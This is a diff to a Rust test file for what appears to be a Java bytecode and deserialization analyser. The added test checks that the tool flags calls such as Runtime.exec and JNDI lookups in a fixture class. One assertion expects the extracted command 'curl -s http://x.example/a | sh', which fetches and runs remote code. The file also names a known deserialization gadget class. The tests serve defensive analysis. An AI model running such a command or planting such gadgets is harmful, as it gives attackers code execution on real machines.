@@ -49,6 +49,32 @@ fn what_runs_when_a_class_is_loaded_is_told_apart() {
 }
 
 #[test]
+fn what_runs_when_an_object_is_read_is_followed_with_its_texts() {
+    let class = include_bytes!("testdata/runs.class");
+    let reading = reading::read(&CLASS, "Runs.class", class).unwrap();
+    assert!(reading.complete(), "{:?} {:?}", reading.stop, reading.ledger);
+    let facts = facts(&reading);
+    for (name, when) in [
+        // Called by `readObject` through a method of the class, beyond a switch.
+        ("java.lang\" name=\"Runtime.exec", "import"),
+        ("java.lang\" name=\"ProcessBuilder.start", "import"),
+        ("java.lang\" name=\"Class.forName", "import"),
+        // In a lambda that the class makes when it is loaded.
+        ("java.lang\" name=\"System.load\"", "import"),
+        ("java.net\" name=\"Socket\"", "called"),
+        ("javax.naming\" name=\"InitialContext.lookup", "called"),
+    ] {
+        let fact = facts.lines().find(|fact| fact.contains(name)).unwrap_or_default();
+        assert!(fact.contains(&format!("when=\"{when}\"")), "{name} in\n{facts}");
+    }
+    let exec = facts.lines().find(|fact| fact.contains("Runtime.exec")).unwrap();
+    assert!(exec.contains("('sh', '-c', 'curl -s http://x.example/a | sh')"), "{exec}");
+    let place = reading.facts.iter().find(|fact| fact.subject().contains("Runtime.exec")).unwrap().at.clone();
+    assert!(place.pointer.as_deref().is_some_and(|pointer| pointer.starts_with("run+")), "{place:?}");
+    assert!(class[usize::try_from(place.offset).unwrap()] == 0xb6, "an instruction that calls");
+}
+
+#[test]
 fn a_gadget_is_named_with_its_package_and_its_bytecode_comes_back() {
     let class = "org.apache.commons.collections.functors.InvokerTransformer";
     let reading = reading::read(&SERIALIZED, "a.ser", &object(class)).unwrap();
@@ -101,4 +127,5 @@ fn lies_stop_politely() {
 fn changed_bytes_stop_politely() {
     reading::change(&SERIALIZED, "a.ser", OBJECTS);
     reading::change(&CLASS, "a.class", CALLS);
+    reading::change(&CLASS, "a.class", include_bytes!("testdata/runs.class"));
 }
